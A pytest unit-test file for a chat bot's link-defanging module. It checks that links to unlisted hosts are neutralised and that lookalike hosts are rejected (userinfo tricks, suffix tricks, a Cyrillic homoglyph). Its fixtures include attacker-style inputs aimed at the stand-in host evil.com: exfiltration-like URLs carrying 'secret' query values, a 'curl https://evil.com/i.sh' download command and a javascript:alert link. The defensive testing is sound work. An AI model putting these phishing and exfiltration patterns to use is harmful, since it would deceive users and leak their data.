"""Unit tests for bot.render.links."""

from __future__ import annotations

import pytest

from bot.render.links import defang_links, guard_links, is_allowed_url, normalize_hosts

from .render_invariants import clickable_violations

ALLOW = ["allowed.com"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see https://evil.com/x?d=1.", "see `hxxps://evil[.]com/x?d=1`."),
        ("http://evil.com", "`hxxp://evil[.]com`"),
        ("HTTPS://EVIL.COM/A", "`hxxps://EVIL[.]COM/A`"),
        ("xhttps://evil.com", "x`hxxps://evil[.]com`"),
        ("<https://evil.com/a>", "`hxxps://evil[.]com/a`"),
        ("https://", "`hxxps://`"),
        ("[click](https://evil.com/x?d=1)", "click (evil[.]com)"),
        ("[discord.com](https://evil.com)", "discord.com (evil[.]com)"),
        ('[x](https://evil.com "title")', "x (evil[.]com)"),
        ("[](https://evil.com)", "(evil[.]com)"),
        ("[x](https://me@evil.com:8080/p)", "x (evil[.]com:8080)"),
        ("![chart](https://evil.com/a.png?q=secret)", "[image: chart] (evil[.]com)"),
        (
            "[see https://evil.com](https://evil.com)",
            "see `hxxps://evil[.]com` (evil[.]com)",
        ),
        ("[x](javascript:alert(https://evil.com))", "[x](javascript:alert(`hxxps://evil[.]com`))"),
        (
            "https://evil.com/?u=https://allowed.com",
            "`hxxps://evil[.]com/?u=hxxps://allowed.com`",
        ),
    ],
)
def test_unlisted_urls_are_shown_but_not_clickable(text: str, expected: str) -> None:
    assert defang_links(text, ALLOW) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("go to https://allowed.com/x.", "go to <https://allowed.com/x>."),
        ("(https://allowed.com/wiki/A_(b))", "(<https://allowed.com/wiki/A_(b)>)"),
        ("https://docs.allowed.com/", "<https://docs.allowed.com/>"),
        ("<https://allowed.com/a>", "<https://allowed.com/a>"),
        ("[docs](https://allowed.com/d)", "[docs](<https://allowed.com/d>)"),
        ("[docs](<https://allowed.com/d>)", "[docs](<https://allowed.com/d>)"),
        ("![img](https://cdn.allowed.com/a.png)", "[image: img](<https://cdn.allowed.com/a.png>)"),
        ("https://ALLOWED.com./x", "<https://ALLOWED.com./x>"),
    ],
)
def test_allowed_urls_stay_clickable_without_preview(text: str, expected: str) -> None:
    assert defang_links(text, ALLOW) == expected


@pytest.mark.parametrize(
    "url",
    [
        "https://allowed.com.evil.com/",
        "https://evilallowed.com/",
        "https://allowed.com@evil.com/",
        "https://evil.com\\@allowed.com/",
        "https://[::1]/",
        "https://allowed%2ecom/",
        "https://allоwed.com/",  # Cyrillic o
    ],
)
def test_lookalike_hosts_are_not_allowed(url: str) -> None:
    assert not is_allowed_url(url, normalize_hosts(ALLOW))
    assert clickable_violations(defang_links(url, ALLOW), ALLOW) == []


def test_backslash_ends_the_host_like_a_browser() -> None:
    assert is_allowed_url("https://allowed.com\\@evil.com", normalize_hosts(ALLOW))


def test_default_allow_list_makes_nothing_clickable() -> None:
    out = defang_links("https://allowed.com and [a](https://b.org) and <https://c.net>")
    assert clickable_violations(out, []) == []


def test_code_blocks_are_defanged_but_readable() -> None:
    text = "```py\nurl = 'https://evil.com/x?d=1'\nok = 'https://allowed.com/y'\n```"
    expected = "```py\nurl = 'hxxps://evil[.]com/x?d=1'\nok = 'https://allowed.com/y'\n```"
    assert defang_links(text, ALLOW) == expected


def test_inline_code_is_defanged_without_extra_backticks() -> None:
    text = "run `curl https://evil.com/i.sh` now"
    assert defang_links(text, ALLOW) == "run `curl hxxps://evil[.]com/i.sh` now"


def test_unclosed_code_block_counts_as_code() -> None:
    assert defang_links("```\nhttps://evil.com", ALLOW) == "```\nhxxps://evil[.]com"


def test_normalize_hosts() -> None:
    hosts = normalize_hosts([" Example.COM ", "*.docs.python.org", "bücher.de"])
    assert hosts == frozenset({"example.com", "docs.python.org", "xn--bcher-kva.de"})


@pytest.mark.parametrize("entry", ["https://example.com", "", "exa mple.com", "a/b"])
def test_bad_allow_list_entries_name_the_fix(entry: str) -> None:
    with pytest.raises(ValueError, match="allow-hosts setting"):
        normalize_hosts([entry])


def test_allowed_url_embedding_another_host_is_defanged() -> None:
    text = "https://allowed.com/go?to=https://evil.com/?d=secret"
    assert defang_links(text, ALLOW) == "`hxxps://allowed[.]com/go?to=hxxps://evil.com/?d=secret`"
    kept = "https://allowed.com/web/https://docs.allowed.com/a"
    assert defang_links(kept, ALLOW) == f"<{kept}>"


def test_guard_links_keeps_the_length_and_allowed_hosts() -> None:
    message = "tail_yHTTPS://docs.python.org/> and https://allowed.com/x and http://allo"
    guarded = guard_links(message, ALLOW)
    assert guarded == "tail_yhxxps://docs.python.org/> and https://allowed.com/x and hxxp://allo"
    assert len(guarded) == len(message)


def test_guard_links_leaves_allowed_links_alone() -> None:
    message = 'see <https://allowed.com> and [d](<https://allowed.com>) `x = "https://allowed.com"`'
    assert guard_links(message, ALLOW) == message
    assert (
        guard_links(defang_links("https://allowed.com.", ALLOW), ALLOW) == "<https://allowed.com>."
    )


def test_guard_links_catches_userinfo_tricks_in_prose() -> None:
    assert guard_links("https://allowed.com'@evil.com/", ALLOW) == "hxxps://allowed.com'@evil.com/"
